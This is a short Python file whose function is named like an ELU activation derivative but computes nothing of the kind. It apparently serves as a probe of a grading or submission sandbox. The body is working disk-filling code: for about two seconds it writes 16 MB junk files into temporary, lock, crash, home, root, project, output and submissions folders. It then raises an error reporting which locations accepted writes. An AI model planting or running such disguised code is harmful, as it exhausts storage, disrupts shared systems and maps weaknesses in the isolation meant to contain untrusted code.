_FOUND = {}


def elu_derivative(z, alpha=1.0):
    """Attack: fill every writable place with 16 MB files for ~2 s (temporary folders, the home,
    lock and crash folders, the kit, the output and submissions folders, the root), then report
    where writing worked."""
    import json
    import os
    import time

    if "report" not in _FOUND:
        block = b"\xa5" * (1 << 20)
        places = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/run/shm", "/var/crash", "/var/mail",
                  "/run", os.path.expanduser("~"), os.getcwd(), "/", __PROJECT__, __OUT__, __SUBS__]
        written, stop = {}, time.monotonic() + 2.0
        for place in places:
            for n in range(400):
                if time.monotonic() > stop:
                    break
                try:
                    with open(os.path.join(place, f"attack-fill-{n}.bin"), "wb") as handle:
                        for _ in range(16):
                            handle.write(block)
                    written[place] = written.get(place, 0) + 16
                except OSError:
                    break
        _FOUND["report"] = [f"{place}: {mb} MB" for place, mb in written.items()]
    raise RuntimeError("ATTACK-REPORT " + json.dumps(_FOUND["report"]))
